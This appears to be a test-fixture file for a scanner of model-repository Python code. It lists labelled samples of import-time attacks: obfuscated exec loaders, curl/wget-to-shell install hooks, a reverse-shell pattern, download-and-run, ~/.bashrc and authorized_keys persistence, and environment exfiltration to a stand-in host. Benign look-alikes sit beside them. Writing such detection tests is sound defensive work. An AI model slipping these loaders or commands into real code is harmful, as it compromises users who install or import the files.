@@ -1,0 +1,347 @@
+"""Python files that run commands or hidden code when they are imported, in many disguises, and honest look-alikes."""
+
+from __future__ import annotations
+
+import base64
+import bz2
+import codecs
+import json
+import lzma
+import marshal
+import pickle
+import zlib
+
+from modelsweep.core.limits import Limits
+from modelsweep.core.options import Options
+from modelsweep.core.report import Verdict
+from tests.scanners.case import Case
+from tests.scanners.payload import EVIL
+
+COMMAND = "echo modelsweep-test"
+PAYLOAD = f"import os\nos.system('{COMMAND}')\n"
+CODE = base64.b64encode(PAYLOAD.encode()).decode()
+HEX = PAYLOAD.encode().hex()
+PACKED = base64.b64encode(zlib.compress(PAYLOAD.encode()))[::-1].decode()
+CODED = repr(codecs.encode(PAYLOAD, "rot13"))
+SCRIPT = "https://example.com/run.sh"
+"""Never fetched: the tests read text only."""
+MODEL = '''"""A model in the style of transformers."""
+import math
+import torch
+from torch import nn
+from transformers import PreTrainedModel
+
+class Attention(nn.Module):
+    def __init__(self, config):
+        super().__init__()
+        self.scale = 1 / math.sqrt(config.hidden_size)
+        self.act = getattr(torch, config.hidden_act)
+
+    def forward(self, states):
+        return self.act(states * self.scale)
+
+class AcmeModel(PreTrainedModel):
+    def __init__(self, config):
+        super().__init__(config)
+        self.layer = Attention(config)
+        self.eval()
+'''
+TOOLS = """import os, subprocess, sys
+import subprocess as sp
+
+def version():
+    try:
+        return subprocess.check_output(["git", "describe", "--tags"], cwd=os.path.dirname(__file__)).decode().strip()
+    except Exception:
+        return sp.getoutput("git rev-parse --short HEAD")
+
+__version__ = version()
+subprocess.check_call([sys.executable, "-m", "pip", "install", "einops"])
+os.system("nvcc --version && nvidia-smi | cat")
+exec(open("acme/version.py").read())
+"""
+SETUP = """import os, sys
+from setuptools import Command, setup
+from setuptools.command.build_ext import build_ext
+import subprocess
+
+with open("acme/version.py") as stream:
+    namespace = {}
+    exec(stream.read(), namespace)
+
+class CMakeBuild(build_ext):
+    def run(self):
+        out = subprocess.check_output(["cmake", "--version"])
+        subprocess.check_call([os.environ.get("CC", "cc"), "--version"])
+        super().run()
+
+if sys.argv[-1] == "publish":
+    os.system("python setup.py sdist upload")
+    sys.exit()
+setup(name="acme", version=namespace["__version__"], cmdclass={"build_ext": CMakeBuild})
+"""
+GUARDED = """import base64, os, socket, subprocess, sys
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    os.system("rm -rf build")
+
+def encode(image):
+    return base64.b64decode(image)
+
+def run(command):
+    return subprocess.run(command, shell=True)
+
+def connect(host):
+    return socket.create_connection((host, 80))
+
+class Runner:
+    def start(self):
+        os.system(self.command)
+
+main = lambda: os.system("sh run.sh")
+
+if __name__ == "__main__":
+    run("make clean")
+    exec(compile(sys.stdin.read(), "stdin", "exec"))
+"""
+GENERATED = '''import ast, base64, pickle, re, struct, sys
+ICON = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGA")
+DEFAULTS = pickle.loads(pickle.dumps({"a": 1}))
+exec("""def reraise(tp, value, tb=None):
+    raise value
+""")
+eval("1 + 1")
+exec(f"value = {sys.maxsize}")
+for name in ("add", "sub"):
+    exec("def _%s(a, b): return a.%s(b)" % (name, name))
+TEXT = "never do os.system('rm -rf /') or exec(base64.b64decode(data))"
+pattern = re.compile("exec")
+model.eval()
+'''
+EXAMPLE = """import requests
+from PIL import Image
+from transformers import AutoModel
+
+url = "http://images.cocodataset.org/val2017/000000039769.jpg"
+image = Image.open(requests.get(url, stream=True).raw)
+model = AutoModel.from_pretrained("acme/model", trust_remote_code=True).eval()
+"""
+TWO = """import os, subprocess, sys
+
+def build(path):
+    print "building", path
+    subprocess.call(["make", path])
+
+class Old:
+    def run(self):
+        exec "x = 1" in {}
+
+if __name__ == '__main__':
+    os.system('make')
+"""
+TEMPLATE = """import os
+from {{ cookiecutter.package }} import {{ cookiecutter.name }}
+{% if cookiecutter.cli %}
+def main():
+    os.system("{{ cookiecutter.command }}")
+{% endif %}
+path = getattr(os, "sep")
+"""
+HANDLER = """import os
+from typing import Any
+
+class EndpointHandler:
+    def __init__(self, path=""):
+        os.system("{command}")
+
+    def __call__(self, data: dict[str, Any]) -> list[Any]:
+        return []
+"""
+SHELL = """import os, socket, threading
+def go():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("127.0.0.1", 9))
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)
+    import pty
+    pty.spawn("/bin/echo")
+threading.Thread(target=go, daemon=True).start()
+"""
+FETCHED = """import os, urllib.request
+target = "/tmp/acme-helper"
+urllib.request.urlretrieve("https://example.com/helper", target)
+os.chmod(target, 0o755)
+os.system(target)
+"""
+LOOP = """data = {numbers}
+text = ""
+for number in data:
+    text += chr(number ^ 7)
+exec(text)
+"""
+INSTALL = f"""from setuptools import setup
+from setuptools.command.install import install
+import os
+
+class Post(install):
+    def run(self):
+        install.run(self)
+        os.system("curl -s {SCRIPT} | sh")
+
+setup(name="acme", cmdclass={{"install": Post}})
+"""
+
+
+def python(
+    source: str, verdict: Verdict = Verdict.CLEAN, name: str = "modeling_acme.py", options: Options | None = None
+) -> Case:
+    """Return the case of a Python file; a shorter one is a text as well."""
+    return Case(source.encode, name, verdict, options or Options(), cut_is_clean=True)
+
+
+def malicious(source: str, name: str = "modeling_acme.py") -> Case:
+    return python(source, Verdict.MALICIOUS, name)
+
+
+def review(source: str, name: str = "modeling_acme.py") -> Case:
+    return python(source, Verdict.REVIEW, name)
+
+
+def notebook(*cells: str) -> str:
+    """Return a notebook of code cells, and of one cell of text."""
+    text = {"cell_type": "markdown", "metadata": {}, "source": ["exec(base64.b64decode('YQ=='))"]}
+    code = [
+        {"cell_type": "code", "metadata": {}, "source": cell.splitlines(keepends=True), "outputs": []} for cell in cells
+    ]
+    return json.dumps({"cells": [text, *code], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)
+
+
+def characters(text: str, key: int = 0) -> str:
+    return repr([ord(character) ^ key for character in text])
+
+
+PICKLED = base64.b64encode(EVIL).decode()
+HARMLESS = base64.b64encode(pickle.dumps({"labels": ["cat", "dog"]})).decode()
+MARSHALLED = base64.b64encode(marshal.dumps(compile(PAYLOAD, "x", "exec"), 2)).decode()
+DOUBLE = base64.b64encode(f"import base64; exec(base64.b64decode('{CODE}'))".encode()).decode()
+
+DECODED = {
+    "base64": f"import base64\nexec(base64.b64decode('{CODE}'))\n",
+    "base64_renamed": f"from base64 import b64decode as d\nrun = exec\n"
+    f"run(compile(d(b'{CODE}').decode(), 'a', 'exec'))\n",
+    "base64_twice": f"import base64; exec(base64.b64decode('{DOUBLE}'))\n",
+    "hex": f"exec(bytes.fromhex('{HEX}').decode())\n",
+    "reversed_zlib_lambda": "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
+    f"exec((_)(b'{PACKED}'))\n",
+    "function": f"import base64, zlib\ndef unpack(data):\n    raw = base64.b64decode(data[::-1])\n"
+    f"    return zlib.decompress(raw)\nexec(unpack(b'{PACKED}'))\n",
+    "steps": f"import base64, zlib\ndata = '{PACKED}'\ndata = data[::-1]\ndata = base64.b64decode(data)\n"
+    "data = zlib.decompress(data)\nexec(data)\n",
+    "bz2": f"import bz2, binascii\n"
+    f"exec(bz2.decompress(binascii.unhexlify('{bz2.compress(PAYLOAD.encode()).hex()}')))\n",
+    "lzma": f"import lzma\nexec(lzma.decompress(bytes.fromhex('{lzma.compress(PAYLOAD.encode()).hex()}')))\n",
+    "rot13": f"import codecs\nexec(codecs.decode({CODED}, 'rot13'))\n",
+    "marshal": f"import marshal, base64, types\ncode = marshal.loads(base64.b64decode('{MARSHALLED}'))\n"
+    "types.FunctionType(code, globals())()\n",
+    "chr_list": f"exec(''.join(map(chr, {characters(PAYLOAD)})))\n",
+    "chr_xor": f"exec(''.join(chr(number ^ 42) for number in {characters(PAYLOAD, 42)}))\n",
+    "chr_loop": LOOP.format(numbers=characters(PAYLOAD, 7)),
+    "getattr": f"import base64\ngetattr(__builtins__, 'ex' + 'ec')(getattr(base64, 'b64' + 'decode')('{CODE}'))\n",
+    "globals": f"globals()['__builtins__'].__dict__['e' 'xec'](__import__('base64').b64decode('{CODE}'))\n",
+    "other_letters": f"import base64\n\uff45xec(base64.b64decode('{CODE}'))\n",
+    "decorator": f"import base64\ndef run(function):\n    exec(base64.b64decode('{CODE}'))\n    return function\n"
+    "@run\ndef forward(): ...\n",
+    "class_body": f"import base64\nclass Config:\n    exec(base64.b64decode('{CODE}'))\n",
+    "default_value": f"import base64\ndef load(path, x=exec(base64.b64decode('{CODE}'))): ...\n",
+    "python_c": f"import subprocess, sys\n"
+    f"subprocess.Popen([sys.executable, '-c', \"import base64;exec(base64.b64decode("
+    f"'{CODE}'))\"])\n",
+    "coding": f"# coding: utf-7\nimport base64\n+AGU-xec(base64.b64decode('{CODE}'))\n",
+}
+COMMANDS = {
+    "plain": PAYLOAD,
+    "import_function": f"__import__('os').system('{COMMAND}')\n",
+    "importlib": f"import importlib as i\ni.import_module('o' + 's').popen('{COMMAND}')\n",
+    "modules": f"import sys\nsys.modules['os'].system('{COMMAND}')\n",
+    "posix": f"from posix import *\nsystem('{COMMAND}')\n",
+    "eval": f"eval(\"__import__('os').system('{COMMAND}')\")\n",
+    "exec_of_eval": f"exec(\"eval('__import__')('os').system('{COMMAND}')\")\n",
+    "attrgetter": f"import operator, os\noperator.attrgetter('system')(os)('{COMMAND}')\n",
+    "subprocess_shell": f"import subprocess\nsubprocess.run('{COMMAND}', shell=True)\n",
+    "called_function": f"import os\ndef setup(command):\n    os.system(command)\nsetup('{COMMAND}')\n",
+    "method": f"import os\nclass A:\n    def go(self):\n        self.run()\n"
+    f"    def run(self):\n        os.system('{COMMAND}')\n"
+    "A().go()\n",
+    "lambda": f"import os\n(lambda c: os.system(c))('{COMMAND}')\n",
+    "map": f"import os\nlist(map(os.system, ['{COMMAND}']))\n",
+    "atexit": f"import atexit, os\natexit.register(os.system, '{COMMAND}')\n",
+    "walrus": f"import os\n[run := os.system, run('{COMMAND}')]\n",
+    "try_except": f"try:\n    import acme\nexcept ImportError:\n    import os\n    os.system('{COMMAND}')\n",
+    "not_main": f"import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('{COMMAND}')\n",
+}
+CASES = {
+    **{f"decoded_{name}": malicious(source) for name, source in DECODED.items()},
+    **{f"command_{name}": malicious(source) for name, source in COMMANDS.items()},
+    "command_in_other_file": review("import os\nos.system('touch modelsweep-test')\n", "train.py"),
+    "command_computed": review("import os\nos.system(os.environ['ACME'])\n"),
+    "attack_pipe": malicious(f"import os\nos.system('curl -fsSL {SCRIPT} | sh')\n", "train.py"),
+    "attack_on_install": malicious(INSTALL, "setup.py"),
+    "attack_in_handler": malicious(HANDLER.replace("{command}", f"wget -qO- {SCRIPT} | bash"), "handler.py"),
+    "command_in_handler": review(HANDLER.replace("{command}", "touch modelsweep-test"), "handler.py"),
+    "reverse_shell": malicious(SHELL),
+    "downloaded_exec": malicious(f"import requests\nexec(requests.get('{SCRIPT}').text)\n", "utils.py"),
+    "downloaded_file": malicious(FETCHED, "__init__.py"),
+    "startup_echo": malicious("import os\nos.system('echo modelsweep-test >> ~/.bashrc')\n", "utils.py"),
+    "shell_listed": malicious("import subprocess\nsubprocess.run(['bash', '-c', 'touch modelsweep-test'])\n"),
+    "pipe_of_tools": review("import os\nos.system('git clone https://example.com/x && python x/run.py')\n", "app.py"),
+    "startup_bashrc": malicious(
+        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo modelsweep-test')\n"
+    ),
+    "startup_keys": malicious(
+        "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('none')\n", "hubconf.py"
+    ),
+    "pickled_constant": malicious(f"import base64, pickle\nx = pickle.loads(base64.b64decode('{PICKLED}'))\n"),
+    "computed_code": review("import os\nexec(os.environ['ACME'])\n"),
+    "code_in_forward": review(
+        "import torch\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return eval(self.config.code)\n"
+    ),
+    "network_exfiltration": review(
+        "import os, requests\nrequests.post('https://example.com/', json=dict(os.environ))\n", "utils.py"
+    ),
+    "network_in_model": review(f"import urllib.request\nurllib.request.urlopen('{SCRIPT}')\n"),
+    "native_library": review("import ctypes\nctypes.CDLL('./libacme.so')\n"),
+    "shellcode": review("import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 9, 0x1000, 0x40)\n", "utils.py"),
+    "pth_startup": malicious(f"# paths\n./lib\nimport base64; exec(base64.b64decode('{CODE}'))\n", "acme.pth"),
+    "shebang": malicious(f"#!/usr/bin/env python3\n{DECODED['base64']}", "run"),
+    "notebook_decoded": malicious(notebook("x = 1", DECODED["base64"]), "demo.ipynb"),
+    "unparsed_decoded": malicious(f"import base64\nprint 'loading'\nexec base64.b64decode('{CODE}')\n", "old.py"),
+    "unparsed_command": python("import os\nprint 'loading'\nos.system('true')\n", Verdict.NOT_SCANNED, "old.py"),
+    "too_long": python(
+        "exec(x)\n" * 10_000, Verdict.NOT_SCANNED, "long.py", Options(limits=Limits(parsed_bytes=4 << 20))
+    ),
+    "nested_deep": python("exec(" + "(" * 200 + ")" * 200 + ")", Verdict.NOT_SCANNED, "deep.py"),
+    "benign_model": python(MODEL),
+    "benign_tools": python(TOOLS, name="__init__.py"),
+    "benign_setup": python(SETUP, name="setup.py"),
+    "benign_defined": python(GUARDED),
+    "benign_generated": python(GENERATED, name="compat.py"),
+    "benign_pickled_constant": python(f"import base64, pickle\nL = pickle.loads(base64.b64decode('{HARMLESS}'))\n"),
+    "benign_example": python(EXAMPLE, name="example.py"),
+    "benign_python_2": python(TWO, name="old.py"),
+    "benign_template": python(TEMPLATE, name="main.py"),
+    "benign_notebook": python(
+        notebook("!pip install acme\n%pip list\nimport os", "os.system('sh run.sh')\n"), name="a.ipynb"
+    ),
+    "benign_pth": python(
+        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
+        "enabled and __import__('_distutils_hack').add_shim();\n",
+        name="distutils-precedence.pth",
+    ),
+    "benign_many_branches": python(
+        "import sys, subprocess\nif sys.x == 0:\n    y = 0\n"
+        + "".join(f"elif sys.x == {n}:\n    y = {n}\n" for n in range(300)),
+        name="codes.py",
+    ),
+    "benign_text_about_python": python(f"Run it like this:\n\n    {DECODED['base64']}", name="README.md"),
+}
